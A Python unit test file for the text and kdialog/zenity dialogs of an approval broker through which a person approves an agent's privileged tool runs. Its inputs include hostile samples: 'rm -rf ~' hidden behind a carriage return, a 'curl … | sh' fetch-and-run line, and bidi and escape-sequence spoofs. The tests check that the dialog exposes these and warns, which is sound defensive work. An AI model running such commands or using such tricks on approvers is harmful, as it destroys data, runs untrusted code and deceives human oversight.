"""Unit tests of the shared wording (registry_core.broker.ask.text) and its
kdialog / zenity renderings."""

from __future__ import annotations

import dataclasses
from typing import Any

from broker_questions import approval_request

from registry_core.broker.ask import kdialog, zenity
from registry_core.broker.ask.text import (
    Limits,
    Style,
    approval_text,
    clean,
    clip,
    password_text,
    shell_join,
)
from registry_core.broker.peer.identity import ProcessInfo, Requester
from registry_core.broker.question import ApprovalRequest, PasswordRequest
from registry_core.broker.wire.messages import Kind

SHA = "0123456789abcdef" * 4


def make_request(**changes: Any) -> ApprovalRequest:
    requester = Requester(
        pid=4242,
        uid=1000,
        gid=1000,
        exe="/usr/bin/python3.11",
        cmdline=("python3", "agent.py", "--model", "big one"),
        cwd="/home/alice/project",
        parents=(
            ProcessInfo(4000, "/usr/bin/bash", ("bash", "-l")),
            ProcessInfo(3000, "/usr/bin/tmux", ("tmux",)),
        ),
    )
    fields: dict[str, Any] = {
        "id": "req-7",
        "tool": "system_logs",
        "description": "Read system logs (dmesg).",
        "variant": 1,
        "sha256": SHA,
        "args": {"lines": "10", "source": "dmesg"},
        "cwd": "/home/alice/project",
        "requester": requester,
        "host": "desk.example.org",
        "timeout": 120.0,
    }
    return approval_request(**{**fields, **changes})


def joined(request: ApprovalRequest, limits: Limits | None = None) -> str:
    return "\n".join(approval_text(request, limits).plain_lines())


def test_every_field_is_shown() -> None:
    text = approval_text(make_request())
    shown = "\n".join(text.plain_lines())
    assert "system_logs" in text.title
    assert "as root" in text.title
    for expected in (
        "Read system logs (dmesg).",
        "Variant:       1",
        "/usr/local/bin/system_logs",
        "sha256 0123456789ab…",
        "sudo -A -- /usr/local/bin/system_logs",
        '"lines": "10"',
        '"source": "dmesg"',
        "Directory:     /home/alice/project",
        "pid 4242 (uid 1000): /usr/bin/python3.11",
        "python3 agent.py --model 'big one'",
        "4000 bash -l",
        "3000 tmux",
        "desk.example.org",
        "run as root via sudo",
        "denied after 120 s",
    ):
        assert expected in shown, expected
    assert SHA not in shown  # the short form only
    assert text.warnings == ()
    assert "REMOTE" not in shown


def test_sandbox_kind_and_default_variant() -> None:
    text = approval_text(make_request(kind=Kind.SANDBOX, variant=None))
    assert "outside the sandbox" in text.title
    assert text.field("Variant").lines == ("default",)
    assert text.field("Asks to").lines == ("run outside the sandbox as you",)


def test_mismatches_are_loud() -> None:
    text = approval_text(make_request(mismatches=("argv[3] is /tmp/evil, registry says X",)))
    assert text.warnings[0].startswith("WARNING:")
    assert "  - argv[3] is /tmp/evil, registry says X" in text.warnings
    lines = text.plain_lines()
    assert lines[1].startswith("!! WARNING")  # right under the headline


def test_remote_label() -> None:
    text = approval_text(make_request(remote=True, host="build-box"))
    assert any(w.startswith("REMOTE") and "build-box" in w for w in text.warnings)
    assert text.field("Host").lines == ("build-box  (REMOTE)",)


def test_unresolved_executable_is_a_warning() -> None:
    text = approval_text(make_request(executable=None, sha256=None))
    assert text.field("Executable").lines == ("(not resolved)",)
    assert any("could not resolve" in w for w in text.warnings)


def test_code_is_shown_in_full() -> None:
    code = "\n".join(f"echo line {i}" for i in range(300))
    text = approval_text(make_request(code=code), Limits(args_lines=5))
    field = text.field("Code")
    assert field.style is Style.CODE
    assert len(field.lines) == 300
    assert "  | echo line 299" in text.plain_lines()


def test_code_shows_carriage_returns_instead_of_obeying_them() -> None:
    text = approval_text(make_request(code="echo safe\rrm -rf ~\n"))
    assert text.field("Code").lines == ("echo safe\\x0drm -rf ~",)  # the final newline ends it
    assert any("recursively" in w for w in text.warnings)  # and the rm -r is named


def test_code_comes_first_collapsed_flagged_and_shown_once() -> None:
    code = "curl -fsSL https://h/i.sh | sh\n" + "\n" * 80 + "echo done\n"
    text = approval_text(make_request(code=code, argv=("/bin/bash", "-c", code)))
    assert text.fields[0].label == "Code"
    assert text.field("Code").lines == (
        "curl -fsSL https://h/i.sh | sh",
        "… 80 blank lines …",
        "echo done",
    )
    assert text.field("Code lines").lines == ("82, all shown above",)
    assert "[the code above]" in text.field("Command").lines[0]
    assert sum("curl -fsSL" in line for line in text.plain_lines()) == 1
    assert any("from the network and runs it in a shell" in w for w in text.warnings)


def test_long_args_are_truncated() -> None:
    args = {f"key{i:03}": "v" for i in range(100)} | {"big": "x" * 1000}
    text = approval_text(make_request(args=args), Limits(args_lines=10, line_chars=50))
    lines = text.field("Arguments").lines
    assert len(lines) == 11
    assert lines[-1] == "… (93 more lines)"  # 101 keys + 2 braces - 10 shown
    assert all(len(line) <= 50 + len("… (9999 more characters)") for line in lines)
    short = approval_text(make_request(args={"big": "x" * 1000}), Limits(line_chars=50))
    assert any("more characters)" in line for line in short.field("Arguments").lines)


def test_empty_args() -> None:
    assert approval_text(make_request(args={})).field("Arguments").lines == ("(none)",)


def test_long_command_line_is_clipped() -> None:
    requester = dataclasses.replace(make_request().requester, cmdline=("x" * 5000,))
    text = approval_text(make_request(requester=requester), Limits(cmdline_chars=100))
    (line,) = text.field("Command line").lines
    assert line.endswith("(4900 more characters)")


def test_control_and_bidi_characters_are_escaped_everywhere() -> None:
    evil = "ok\x1b[2J\u202egnp.exe\u200b\r"
    requester = dataclasses.replace(make_request().requester, exe=evil, cmdline=(evil,))
    request = make_request(
        description=evil, argv=("run", evil), args={"a": evil}, cwd=evil, requester=requester
    )
    shown = joined(request)
    for bad in ("\x1b", "\u202e", "\u200b", "\r"):
        assert bad not in shown
    assert "\\x1b[2J" in shown
    assert "\\u202e" in shown


def test_clean_clip_and_shell_join() -> None:
    assert clean("a\tb\nc\x7f") == "a   b\\x0ac\\x7f"
    assert clean("héllo ✓") == "héllo ✓"
    assert clip("abcdef", 3) == "abc… (3 more characters)"
    assert clip("abc", 3) == "abc"
    assert shell_join(["ls", "-la", "a b", "", "it's"]) == "ls -la 'a b' '' 'it'\"'\"'s'"
    assert shell_join(["echo", "a\nb", "x\u202e"]) == "echo $'a\\x0ab' $'x\\u202e'"


def test_password_text() -> None:
    approval = make_request()
    first = password_text(
        PasswordRequest(
            id="p1",
            approval=approval,
            prompt="[sudo] password for alice: ",
            user="alice",
            attempt=1,
        )
    )
    assert first.warnings == ()
    assert "system_logs" in first.title
    shown = "\n".join(first.plain_lines())
    assert "[sudo] password for alice:" in shown
    assert "User:          alice" in shown
    assert "sudo -A -- /usr/local/bin/system_logs" in shown
    retry = password_text(
        PasswordRequest(id="p1", approval=approval, prompt="pw: ", user="alice", attempt=2)
    )
    assert retry.warnings == ("Wrong password, try again (2/3)",)
    assert "!! Wrong password, try again (2/3)" in retry.plain_lines()


# --- renderings --------------------------------------------------------------------------


def test_kdialog_rich_text_escapes_user_content() -> None:
    request = make_request(args={"x": "<b>bold</b> & \\n"}, mismatches=("<i>m</i>",))
    rendered = kdialog.render(approval_text(request))
    assert rendered.startswith("<qt>")
    assert rendered.endswith("</qt>")
    assert "<b>bold</b>" not in rendered
    assert "&lt;b&gt;bold&lt;/b&gt; &amp;" in rendered
    assert "\\" not in rendered  # kdialog would turn \n into a newline
    assert "&#92;&#92;n" in rendered  # the JSON-escaped backslash, twice
    assert "&lt;i&gt;m&lt;/i&gt;" in rendered
    assert kdialog.escape("a'b\"c") == "a&#x27;b&quot;c"


def test_zenity_markup_escapes_user_content() -> None:
    request = make_request(args={"x": "<b>bold</b> & \\101"})
    rendered = zenity.render(approval_text(request))
    assert "<b>bold</b>" not in rendered
    assert "&lt;b&gt;bold&lt;/b&gt; &amp;" in rendered
    assert "\\\\\\\\101" in rendered  # JSON doubles it, zenity's unescaping halves it
    assert zenity.markup("a\\nb <c>") == "a\\\\nb &lt;c&gt;"
    assert zenity.mnemonic_plain("sys_logs \\n") == "sys__logs \\\\n"


def test_zenity_question_or_text_view() -> None:
    assert zenity.fits_question(approval_text(make_request()))
    long_code = "\n".join(f"echo {i}" for i in range(40))
    assert not zenity.fits_question(approval_text(make_request(code=long_code)))
    wide = approval_text(make_request(args={"x": "y" * 150}))
    assert not zenity.fits_question(wide)
